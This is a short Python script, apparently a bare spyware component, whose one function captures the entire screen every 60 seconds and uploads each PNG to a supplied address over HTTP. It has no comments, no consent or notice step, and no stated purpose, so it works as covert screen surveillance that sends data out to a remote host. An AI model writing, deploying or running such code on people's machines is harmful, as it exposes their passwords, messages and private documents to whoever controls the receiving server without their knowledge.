import io
import time

import requests
from PIL import ImageGrab


def watch(address):
    while True:
        buffer = io.BytesIO()
        ImageGrab.grab().save(buffer, "PNG")
        requests.post(address, files={"image": buffer.getvalue()})
        time.sleep(60)
